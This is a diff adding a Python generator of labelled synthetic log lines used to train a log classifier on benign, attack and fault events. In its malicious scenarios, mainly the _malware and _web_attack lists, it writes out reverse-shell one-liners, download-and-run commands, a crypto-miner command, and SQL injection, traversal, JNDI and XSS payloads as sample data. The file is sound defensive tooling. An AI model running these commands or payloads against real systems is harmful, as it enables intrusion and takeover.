@@ -1,0 +1,817 @@
+"""Seeded scenario generator: realistic labelled log lines in the formats the parser reads.
+
+Each scenario is a small function that draws hosts, users, addresses, ports, paths and
+timestamps from a seeded :class:`random.Random` and returns one raw line. Malicious and
+faulty scenarios have benign look-alikes in the same format (accepted logins beside failed
+ones, normal requests beside attack payloads, routine cron beside download-and-run) so a
+model has to learn the meaning of a line, not its format. Same seed, same lines.
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+
+import orjson
+
+from classifiers.logs.taxonomy import LABELS
+
+HOSTS = (
+    "web-01",
+    "web-02",
+    "db-prod-3",
+    "bastion",
+    "api-gw-7",
+    "build-runner-2",
+    "mail01",
+    "k8s-node-14",
+    "fileserver",
+    "vpn-edge",
+    "LabSZ",
+    "combo",
+    "ip-10-0-3-21",
+)
+USERS = (
+    "root",
+    "admin",
+    "deploy",
+    "alice",
+    "bob",
+    "carol",
+    "dave",
+    "ubuntu",
+    "oracle",
+    "git",
+    "postgres",
+    "jenkins",
+    "test",
+    "guest",
+    "support",
+    "www-data",
+    "backup",
+    "pi",
+    "user1",
+)
+PROGRAMS_OK = ("nginx", "postgres", "redis-server", "java", "python3", "node", "dockerd")
+SERVICES = (
+    "nginx",
+    "postgresql",
+    "redis",
+    "docker",
+    "kubelet",
+    "cron",
+    "sshd",
+    "rsyslog",
+    "elasticsearch",
+    "payments-api",
+    "grafana-server",
+    "haproxy",
+)
+DISKS = ("sda", "sdb", "nvme0n1", "sdc", "md0", "xvda")
+IFACES = ("eth0", "eth1", "ens3", "eno1", "bond0", "enp0s31f6")
+WEB_PATHS = (
+    "/",
+    "/index.html",
+    "/login",
+    "/api/v1/orders",
+    "/static/app.js",
+    "/img/logo.png",
+    "/products?id=42",
+    "/search?q=blue+shoes",
+    "/account/settings",
+    "/health",
+    "/api/v2/users/1183",
+    "/blog/2024/03/release-notes",
+    "/favicon.ico",
+    "/cart",
+)
+USER_AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) Safari/605.1.15",
+    "curl/8.4.0",
+    "python-requests/2.31.0",
+    "Go-http-client/1.1",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+)
+SCANNER_AGENTS = (
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Nikto/2.5.0",
+    "masscan/1.3",
+    "Mozilla/5.0 zgrab/0.x",
+    "Nmap Scripting Engine",
+    "WPScan v3.8.24",
+)
+JAVA_CLASSES = (
+    "com.acme.orders.OrderService",
+    "org.apache.kafka.clients.NetworkClient",
+    "com.acme.billing.InvoiceJob",
+    "org.springframework.web.servlet.DispatcherServlet",
+)
+BGL_NODES = (
+    "R02-M1-N0-C:J12-U11",
+    "R30-M0-N9-C:J16-U01",
+    "R24-M0-N1-C:J13-U11",
+    "R63-M0-L0-U11-A",
+    "R17-M1-NF-I:J18-U01",
+    "R45-M1-N4-C:J08-U01",
+)
+
+
+@dataclass(frozen=True)
+class GeneratedLine:
+    """A raw log line and the label it was generated for."""
+
+    text: str
+    label: str
+    scenario: str
+
+
+class _Draw:
+    """Random field values for one line, all from one seeded generator."""
+
+    def __init__(self, rng: random.Random, start: datetime) -> None:
+        self.rng = rng
+        self.now = start
+
+    def tick(self) -> datetime:
+        self.now += timedelta(seconds=self.rng.expovariate(1 / 20))
+        return self.now
+
+    def pick(self, options: tuple[str, ...]) -> str:
+        return self.rng.choice(options)
+
+    def public_ip(self) -> str:
+        r = self.rng
+        return (
+            f"{r.choice((45, 61, 103, 185, 193, 203, 218, 91, 5))}.{r.randint(1, 254)}."
+            f"{r.randint(0, 254)}.{r.randint(1, 254)}"
+        )
+
+    def private_ip(self) -> str:
+        r = self.rng
+        return r.choice(
+            (
+                f"10.{r.randint(0, 20)}.{r.randint(0, 254)}.{r.randint(2, 254)}",
+                f"192.168.{r.randint(0, 9)}.{r.randint(2, 254)}",
+            )
+        )
+
+    def any_ip(self) -> str:
+        return self.public_ip() if self.rng.random() < 0.5 else self.private_ip()
+
+    def port(self) -> int:
+        return self.rng.randint(1024, 65535)
+
+    def pid(self) -> int:
+        return self.rng.randint(200, 65000)
+
+    def hexs(self, n: int) -> str:
+        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))
+
+    def syslog(self, program: str, message: str, pid: bool = True) -> str:
+        t = self.tick()
+        tag = f"{program}[{self.pid()}]" if pid else program
+        return f"{t:%b} {t.day:2d} {t:%H:%M:%S} {self.pick(HOSTS)} {tag}: {message}"
+
+    def access(self, ip: str, method: str, path: str, status: int, agent: str) -> str:
+        t = self.tick()
+        size = 0 if status in (301, 304, 404, 403) else self.rng.randint(120, 48000)
+        ref = self.rng.choice(("-", "https://www.example.com/", "https://shop.example.org/cart"))
+        return (
+            f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} HTTP/1.1" '
+            f'{status} {size} "{ref}" "{agent}"'
+        )
+
+    def bgl(self, component: str, level: str, message: str) -> str:
+        t = self.tick()
+        node = self.pick(BGL_NODES)
+        return (
+            f"- {int(t.timestamp())} {t:%Y.%m.%d} {node} {t:%Y-%m-%d-%H.%M.%S}."
+            f"{t.microsecond:06d} {node} RAS {component} {level} {message}"
+        )
+
+    def app(self, level: str, message: str) -> str:
+        t = self.tick()
+        thread = self.rng.choice(("main", "http-nio-8080-exec-3", "worker-7", "scheduler-1"))
+        return (
+            f"{t:%Y-%m-%d %H:%M:%S},{t.microsecond // 1000:03d} {level} [{thread}] "
+            f"{self.pick(JAVA_CLASSES)}: {message}"
+        )
+
+    def json_line(self, level: str, message: str, service: str) -> str:
+        t = self.tick()
+        return orjson.dumps(
+            {
+                "timestamp": t.isoformat(),
+                "level": level,
+                "service": service,
+                "host": self.pick(HOSTS),
+                "message": message,
+            }
+        ).decode()
+
+
+Scenario = Callable[[_Draw], str]
+
+
+def _ssh_accepted(d: _Draw) -> str:
+    how = d.pick(("password", "publickey"))
+    return d.syslog(
+        "sshd", f"Accepted {how} for {d.pick(USERS)} from {d.any_ip()} port {d.port()} ssh2"
+    )
+
+
+def _ssh_session(d: _Draw) -> str:
+    user = d.pick(USERS)
+    return d.pick(
+        (
+            d.syslog("sshd", f"pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
+            d.syslog("sshd", f"pam_unix(sshd:session): session closed for user {user}"),
+            d.syslog(
+                "sshd",
+                f"Received disconnect from {d.any_ip()} port {d.port()}:11: disconnected by user",
+            ),
+            d.syslog("sshd", f"Disconnected from user {user} {d.any_ip()} port {d.port()}"),
+        )
+    )
+
+
+def _cron(d: _Draw) -> str:
+    cmd = d.pick(
+        (
+            "run-parts /etc/cron.hourly",
+            "/usr/local/bin/backup.sh --daily",
+            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
+            "/usr/bin/certbot renew --quiet",
+            "php /var/www/app/artisan schedule:run",
+            "curl -fsS https://hc-ping.com/4f1e-status > /dev/null",
+        )
+    )
+    return d.syslog("CRON", f"({d.pick(USERS)}) CMD ({cmd})")
+
+
+def _sudo_ok(d: _Draw) -> str:
+    user = d.pick(USERS)
+    cmd = d.pick(
+        (
+            "/usr/bin/apt-get update",
+            "/bin/systemctl restart nginx",
+            "/usr/bin/journalctl -u kubelet",
+            "/usr/bin/docker ps",
+            "/bin/cat /var/log/syslog",
+            "/usr/bin/tail -f /var/log/nginx/access.log",
+        )
+    )
+    return d.syslog(
+        "sudo",
+        f"{user} : TTY=pts/{d.rng.randint(0, 9)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
+        pid=False,
+    )
+
+
+def _web_ok(d: _Draw) -> str:
+    method = d.pick(("GET", "GET", "GET", "POST", "HEAD"))
+    status = d.rng.choice((200, 200, 200, 200, 301, 304, 404))
+    return d.access(d.any_ip(), method, d.pick(WEB_PATHS), status, d.pick(USER_AGENTS))
+
+
+def _systemd_ok(d: _Draw) -> str:
+    svc = d.pick(SERVICES)
+    return d.pick(
+        (
+            d.syslog("systemd", f"Started {svc}.service.", pid=False),
+            d.syslog("systemd", f"Starting {svc}.service...", pid=False),
+            d.syslog("systemd", f"Reloaded {svc}.service.", pid=False),
+            d.syslog("systemd", f"{svc}.service: Succeeded.", pid=False),
+            d.syslog("systemd", f"Stopped {svc}.service.", pid=False),
+        )
+    )
+
+
+def _kernel_ok(d: _Draw) -> str:
+    ts = f"[{d.rng.uniform(1, 99999):.6f}]"
+    return d.pick(
+        (
+            d.syslog(
+                "kernel",
+                f"{ts} {d.pick(IFACES)}: NIC Link is Up 1000 Mbps Full Duplex, Flow Control: RX/TX",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"{ts} EXT4-fs ({d.pick(DISKS)}1): mounted filesystem "
+                "with ordered data mode. Opts: (null)",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"{ts} usb 1-1: new high-speed USB device number "
+                f"{d.rng.randint(2, 9)} using xhci_hcd",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"{ts} [UFW BLOCK] IN={d.pick(IFACES)} OUT= "
+                f"SRC={d.public_ip()} DST={d.private_ip()} PROTO=UDP "
+                f"SPT={d.port()} DPT=137",
+                pid=False,
+            ),
+        )
+    )
+
+
+def _app_ok(d: _Draw) -> str:
+    msg = d.pick(
+        (
+            f"Processed order {d.rng.randint(1000, 99999)} in {d.rng.randint(3, 900)} ms",
+            f"Connected to postgres at {d.private_ip()}:5432",
+            f"Cache warmed with {d.rng.randint(10, 9000)} entries",
+            "Scheduled job InvoiceJob finished successfully",
+            f"GET /api/v1/orders/{d.rng.randint(1, 9999)} completed with 200",
+        )
+    )
+    if d.rng.random() < 0.5:
+        return d.app("INFO", msg)
+    return d.json_line("info", msg, d.pick(("payments-api", "checkout", "auth-service")))
+
+
+def _bgl_ok(d: _Draw) -> str:
+    return d.pick(
+        (
+            d.bgl("KERNEL", "INFO", "instruction cache parity error corrected"),
+            d.bgl("KERNEL", "INFO", f"{d.rng.randint(1, 900)} double-hummer alignment exceptions"),
+            d.bgl("KERNEL", "INFO", f"generating core.{d.rng.randint(1, 9999)}"),
+            d.bgl(
+                "KERNEL",
+                "INFO",
+                f"CE sym {d.rng.randint(0, 31)}, at 0x{d.hexs(8)}, mask 0x{d.hexs(2)}",
+            ),
+            d.bgl("APP", "INFO", "ciod: Message code 0 is not 51 or 4294967295"),
+        )
+    )
+
+
+def _useradd_ok_lookalike(d: _Draw) -> str:
+    user = d.pick(USERS)
+    return d.syslog("passwd", f"pam_unix(passwd:chauthtok): password for {user} unchanged")
+
+
+# --- malicious and faulty scenarios ------------------------------------------------------
+
+
+def _ssh_failed(d: _Draw) -> str:
+    user = d.pick(USERS)
+    ip, port = d.public_ip(), d.port()
+    return d.pick(
+        (
+            d.syslog("sshd", f"Failed password for {user} from {ip} port {port} ssh2"),
+            d.syslog("sshd", f"Failed password for invalid user {user} from {ip} port {port} ssh2"),
+            d.syslog("sshd", f"Invalid user {user} from {ip} port {port}"),
+            d.syslog("sshd", f"Failed publickey for {user} from {ip} port {port} ssh2"),
+            d.syslog(
+                "sshd",
+                "pam_unix(sshd:auth): authentication failure; logname= "
+                f"uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}",
+            ),
+            d.syslog(
+                "sshd",
+                f"error: maximum authentication attempts exceeded for {user}"
+                f" from {ip} port {port} ssh2 [preauth]",
+            ),
+            d.syslog(
+                "login", f"FAILED LOGIN (1) on '/dev/tty1' FOR '{user}', Authentication failure"
+            ),
+        )
+    )
+
+
+def _web_auth_failure(d: _Draw) -> str:
+    return d.json_line(
+        "warn",
+        f"login failed for user {d.pick(USERS)} from {d.public_ip()}: invalid credentials",
+        "auth-service",
+    )
+
+
+def _sudo_denied(d: _Draw) -> str:
+    user = d.pick(USERS)
+    return d.pick(
+        (
+            d.syslog(
+                "sudo",
+                f"{user} : user NOT in sudoers ; TTY=pts/{d.rng.randint(0, 9)}"
+                f" ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/bash",
+                pid=False,
+            ),
+            d.syslog(
+                "sudo",
+                f"{user} : {d.rng.randint(1, 3)} incorrect password attempts"
+                f" ; TTY=pts/{d.rng.randint(0, 9)} ; PWD=/home/{user} ; "
+                "USER=root ; COMMAND=/usr/bin/su -",
+                pid=False,
+            ),
+            d.syslog("su", f"FAILED SU (to root) {user} on pts/{d.rng.randint(0, 9)}"),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] {d.pick(PROGRAMS_OK)}"
+                f"[{d.pid()}]: attempted setuid(0) from uid "
+                f"{d.rng.randint(1000, 1010)} blocked",
+                pid=False,
+            ),
+            d.syslog(
+                "sudo",
+                f"{user} : TTY=pts/{d.rng.randint(0, 9)} ; PWD=/tmp ; "
+                "USER=root ; COMMAND=/usr/bin/chmod u+s /bin/bash",
+                pid=False,
+            ),
+            d.syslog(
+                "polkitd",
+                f"Operator of unix-session:{d.rng.randint(1, 9)} FAILED to "
+                "authenticate to gain authorization for action "
+                "org.freedesktop.policykit.exec",
+            ),
+        )
+    )
+
+
+def _account_change(d: _Draw) -> str:
+    user = d.pick(USERS) + str(d.rng.randint(0, 99))
+    uid = d.rng.randint(1001, 1999)
+    group = d.pick(("sudo", "wheel", "docker", "adm", "developers"))
+    return d.pick(
+        (
+            d.syslog(
+                "useradd",
+                f"new user: name={user}, UID={uid}, GID={uid}, "
+                f"home=/home/{user}, shell=/bin/bash, from=/dev/pts/0",
+            ),
+            d.syslog("groupadd", f"new group: name={user}, GID={uid}"),
+            d.syslog("usermod", f"add '{user}' to group '{group}'"),
+            d.syslog("userdel", f"delete user '{user}'"),
+            d.syslog("passwd", f"pam_unix(passwd:chauthtok): password changed for {user}"),
+            d.syslog("chage", f"changed password expiry for {user}"),
+            d.syslog("useradd", f"add '{user}' to shadow group '{group}'"),
+        )
+    )
+
+
+_TRAVERSAL = (
+    "/../../../../etc/passwd",
+    "/static/..%2f..%2f..%2fetc%2fshadow",
+    "/download?file=../../../../etc/passwd",
+    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
+    "/index.php?page=php://filter/convert.base64-encode/resource=config",
+)
+_SQLI = (
+    "/products?id=42%27%20OR%20%271%27=%271",
+    "/search?q=1'+UNION+SELECT+username,password+FROM+users--",
+    "/login?user=admin'--&pass=x",
+    "/item?id=1;DROP%20TABLE%20users",
+    "/api/v1/orders?id=1%20AND%20SLEEP(5)",
+)
+_CMDI = (
+    "/ping?host=127.0.0.1;cat%20/etc/passwd",
+    "/cgi-bin/status?cmd=|id",
+    "/?x=${jndi:ldap://45.9.1.2:1389/a}",
+    "/shell?cmd=wget%20http://185.2.3.4/x;sh%20x",
+    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
+)
+_PROBES = (
+    "/wp-login.php",
+    "/.env",
+    "/.git/config",
+    "/phpmyadmin/index.php",
+    "/admin/config.php",
+    "/xmlrpc.php",
+    "/actuator/env",
+    "/server-status",
+    "/boaform/admin/formLogin",
+)
+_XSS = (
+    "/search?q=<script>alert(1)</script>",
+    "/comment?text=%3Cscript%3Edocument.cookie%3C/script%3E",
+    "/profile?name=<img src=x onerror=alert(1)>",
+)
+
+
+def _web_attack(d: _Draw) -> str:
+    path = d.pick(d.rng.choice((_TRAVERSAL, _SQLI, _CMDI, _PROBES, _XSS)))
+    status = d.rng.choice((400, 403, 404, 200, 500))
+    agent = d.pick(SCANNER_AGENTS) if d.rng.random() < 0.5 else d.pick(USER_AGENTS)
+    return d.access(d.public_ip(), d.pick(("GET", "GET", "POST")), path, status, agent)
+
+
+def _ssh_breakin(d: _Draw) -> str:
+    ip = d.public_ip()
+    return d.pick(
+        (
+            d.syslog(
+                "sshd",
+                f"reverse mapping checking getaddrinfo for "
+                f"host-{ip.replace('.', '-')}.example.net [{ip}] failed - "
+                "POSSIBLE BREAK-IN ATTEMPT!",
+            ),
+            d.syslog("sshd", f"Did not receive identification string from {ip} port {d.port()}"),
+            d.syslog(
+                "sshd",
+                f"Bad protocol version identification 'GET / HTTP/1.1' from {ip} port {d.port()}",
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] possible SYN flooding on "
+                f"port {d.rng.choice((22, 80, 443))}. Sending cookies.",
+                pid=False,
+            ),
+            d.syslog(
+                "snort",
+                f"[1:2001219:20] ET SCAN Potential SSH Scan [Classification:"
+                f" Attempted Information Leak] {{TCP}} {ip}:{d.port()} -> "
+                f"{d.private_ip()}:22",
+            ),
+        )
+    )
+
+
+def _malware(d: _Draw) -> str:
+    ip, user = d.public_ip(), d.pick(("www-data", "nobody", "apache", "tomcat", "jenkins"))
+    payload = d.pick(
+        (
+            f"curl -s http://{ip}/x.sh | bash",
+            f"wget -qO- http://{ip}:8080/i | sh",
+            f"bash -i >& /dev/tcp/{ip}/4444 0>&1",
+            f"nc -e /bin/sh {ip} {d.rng.choice((4444, 1337, 9001))}",
+            f"python3 -c 'import socket,subprocess,os;s=socket.socket();"
+            f's.connect(("{ip}",4444))\'',
+            f"echo {d.hexs(24)}== | base64 -d | bash",
+            f"/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u {d.hexs(40)}",
+        )
+    )
+    return d.pick(
+        (
+            d.syslog(
+                "sudo",
+                f"{user} : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c {payload}",
+                pid=False,
+            ),
+            d.syslog("CRON", f"({user}) CMD ({payload})"),
+            d.syslog("auditd", f'type=EXECVE argc=3 a0="/bin/sh" a1="-c" a2="{payload}"'),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] xmrig[{d.pid()}]: "
+                "huge pages enabled, mining on pool.supportxmr.com:443",
+                pid=False,
+            ),
+            d.syslog(
+                "clamd",
+                f"/var/www/uploads/{d.hexs(8)}.php: "
+                f"{d.pick(('Php.Webshell.C99', 'Unix.Trojan.Mirai-7100807-0', 'Multios.Coinminer.Miner-6781728-2'))}"
+                " FOUND",
+            ),
+            d.json_line(
+                "error",
+                f"process {d.pick(('kdevtmpfsi', 'kinsing', '.sshd', 'xmrig'))}"
+                f" spawned by {user} using 99% CPU from /tmp",
+                "edr-agent",
+            ),
+        )
+    )
+
+
+def _hardware(d: _Draw) -> str:
+    cpu = d.rng.randint(0, 63)
+    return d.pick(
+        (
+            d.bgl("KERNEL", "FATAL", "data TLB error interrupt"),
+            d.bgl("KERNEL", "FATAL", "data storage interrupt"),
+            d.bgl("KERNEL", "FATAL", f"instruction address: 0x{d.hexs(8)}"),
+            d.bgl("KERNEL", "FATAL", "machine check interrupt"),
+            d.bgl("KERNEL", "FATAL", f"L3 ecc control register: {d.hexs(8)}"),
+            d.bgl("MMCS", "FATAL", "ddr: excessive soft failures, consider replacing the card"),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] mce: [Hardware Error]: CPU "
+                f"{cpu}: Machine Check: 0 Bank 5: be{d.hexs(14)}",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] EDAC MC0: 1 CE memory read "
+                f"error on CPU_SrcID#0_Ha#0_Chan#{d.rng.randint(0, 3)}_DIMM#0",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] CPU{cpu}: Core temperature "
+                "above threshold, cpu clock throttled",
+                pid=False,
+            ),
+            d.syslog(
+                "ipmievd",
+                f"Fan {d.rng.randint(1, 8)} Lower Critical going low "
+                f"Reading {d.rng.randint(0, 300)} < Threshold 600 RPM",
+            ),
+        )
+    )
+
+
+def _storage(d: _Draw) -> str:
+    disk, sector = d.pick(DISKS), d.rng.randint(1000, 999999999)
+    return d.pick(
+        (
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] blk_update_request: I/O "
+                f"error, dev {disk}, sector {sector}",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] EXT4-fs error (device "
+                f"{disk}1): ext4_find_entry:1455: inode #{sector}: comm "
+                "nginx: reading directory lblock 0",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] EXT4-fs ({disk}1): "
+                "Remounting filesystem read-only",
+                pid=False,
+            ),
+            d.syslog(
+                "smartd",
+                f"Device: /dev/{disk} [SAT], {d.rng.randint(1, 90)} Currently"
+                " unreadable (pending) sectors",
+            ),
+            d.syslog("mdadm", "DegradedArray event detected on md device /dev/md0"),
+            d.app("ERROR", "java.io.IOException: No space left on device"),
+            d.json_line(
+                "error",
+                f"write /var/lib/docker/overlay2/{d.hexs(12)}: no space left on device",
+                "dockerd",
+            ),
+            d.bgl(
+                "KERNEL",
+                "FATAL",
+                f"Lustre mount FAILED : bglio{d.rng.randint(1, 60)} : block_id : location",
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] XFS ({disk}): metadata "
+                'I/O error: block 0x{} ("xfs_trans_read_buf_map") '
+                "error 5".format(d.hexs(6)),
+                pid=False,
+            ),
+        )
+    )
+
+
+def _network(d: _Draw) -> str:
+    ip = d.private_ip()
+    return d.pick(
+        (
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] e1000e 0000:00:19.0 "
+                f"{d.pick(IFACES)}: NIC Link is Down",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] {d.pick(IFACES)}: transmit queue 0 timed out",
+                pid=False,
+            ),
+            d.syslog("NetworkManager", f"<warn> dhcp4 ({d.pick(IFACES)}): request timed out"),
+            d.syslog(
+                "systemd-resolved",
+                f"Transaction {d.rng.randint(1, 65535)} for "
+                "<api.internal.example IN A> failed: timeout",
+            ),
+            d.app(
+                "ERROR",
+                f"java.net.ConnectException: Connection refused (Connection "
+                f"refused) to {ip}:{d.rng.choice((5432, 9092, 6379, 443))}",
+            ),
+            d.app(
+                "WARN",
+                f"Connection to node {d.rng.randint(0, 5)} ({ip}:9092) could not"
+                " be established. Broker may not be available.",
+            ),
+            d.json_line(
+                "error", f"dial tcp {ip}:{d.rng.choice((443, 8080))}: i/o timeout", "api-gateway"
+            ),
+            d.syslog(
+                "nginx",
+                f"upstream timed out (110: Connection timed out) while "
+                f"connecting to upstream, upstream: http://{ip}:8080/",
+            ),
+            d.bgl(
+                "KERNEL",
+                "FATAL",
+                "Error receiving packet on tree network, expecting "
+                f"type 57 instead of type {d.rng.randint(0, 9)}",
+            ),
+            d.syslog("bgpd", f"%ADJCHANGE: neighbor {ip} Down BGP Notification sent"),
+        )
+    )
+
+
+def _service_failure(d: _Draw) -> str:
+    svc, pid = d.pick(SERVICES), d.pid()
+    return d.pick(
+        (
+            d.syslog(
+                "systemd",
+                f"{svc}.service: Main process exited, code=killed, status=9/KILL",
+                pid=False,
+            ),
+            d.syslog("systemd", f"{svc}.service: Failed with result 'exit-code'.", pid=False),
+            d.syslog("systemd", f"{svc}.service: Start request repeated too quickly.", pid=False),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] Out of memory: Killed "
+                f"process {pid} ({d.pick(PROGRAMS_OK)}) total-vm:"
+                f"{d.rng.randint(10**5, 10**7)}kB",
+                pid=False,
+            ),
+            d.syslog(
+                "kernel",
+                f"[{d.rng.uniform(1, 9999):.6f}] {d.pick(PROGRAMS_OK)}"
+                f"[{pid}]: segfault at {d.hexs(6)} ip {d.hexs(12)} sp "
+                f"{d.hexs(12)} error 4 in libc.so.6",
+                pid=False,
+            ),
+            d.app(
+                "ERROR",
+                "java.lang.NullPointerException: Cannot invoke "
+                '"String.length()" because "name" is null',
+            ),
+            d.app("FATAL", "java.lang.OutOfMemoryError: Java heap space"),
+            d.json_line(
+                "error", "Traceback (most recent call last): KeyError: 'user_id'", "payments-api"
+            ),
+            d.json_line(
+                "fatal",
+                "panic: runtime error: invalid memory address or nil pointer dereference",
+                "api-gateway",
+            ),
+            d.bgl(
+                "KERNEL",
+                "FATAL",
+                "rts: kernel terminated for reason 1004rts: bad "
+                "message header: invalid cpu, type=42315, cpu=105",
+            ),
+            d.bgl(
+                "APP",
+                "FATAL",
+                "ciod: Error reading message prefix after LOAD_MESSAGE "
+                f"on CioStream socket to 172.16.96.116:{d.port()}",
+            ),
+            d.syslog(
+                "dockerd",
+                f"container {d.hexs(12)} restarting: back-off 5m0s restarting failed container",
+            ),
+        )
+    )
+
+
+SCENARIOS: dict[str, tuple[tuple[Scenario, float], ...]] = {
+    "benign": (
+        (_ssh_accepted, 2),
+        (_ssh_session, 1.5),
+        (_cron, 1.5),
+        (_sudo_ok, 1.5),
+        (_web_ok, 3),
+        (_systemd_ok, 1.5),
+        (_kernel_ok, 1),
+        (_app_ok, 1.5),
+        (_bgl_ok, 1.5),
+        (_useradd_ok_lookalike, 0.3),
+    ),
+    "auth_failure": ((_ssh_failed, 4), (_web_auth_failure, 1)),
+    "privilege_escalation": ((_sudo_denied, 1),),
+    "account_change": ((_account_change, 1),),
+    "intrusion_attempt": ((_web_attack, 3), (_ssh_breakin, 1.5)),
+    "malware": ((_malware, 1),),
+    "hardware_fault": ((_hardware, 1),),
+    "storage": ((_storage, 1),),
+    "network": ((_network, 1),),
+    "service_failure": ((_service_failure, 1),),
+}
+if set(SCENARIOS) != set(LABELS):  # a label added to the taxonomy needs scenarios here
+    raise RuntimeError(
+        f"generator scenarios do not cover the taxonomy: {set(LABELS) ^ set(SCENARIOS)}"
+    )
+
+
+def generate(count: int, seed: int = 13, benign_share: float = 0.4) -> Iterator[GeneratedLine]:
+    """``count`` labelled lines; ``benign_share`` of them benign, the rest spread evenly."""
+    rng = random.Random(seed)
+    draw = _Draw(rng, datetime(2024, 3, 1, tzinfo=UTC) + timedelta(days=rng.randint(0, 200)))
+    threats = [label for label in LABELS if label != "benign"]
+    for _ in range(count):
+        label = "benign" if rng.random() < benign_share else rng.choice(threats)
+        scenarios = SCENARIOS[label]
+        scenario = rng.choices([s for s, _ in scenarios], [w for _, w in scenarios])[0]
+        yield GeneratedLine(scenario(draw), label, scenario.__name__.lstrip("_"))
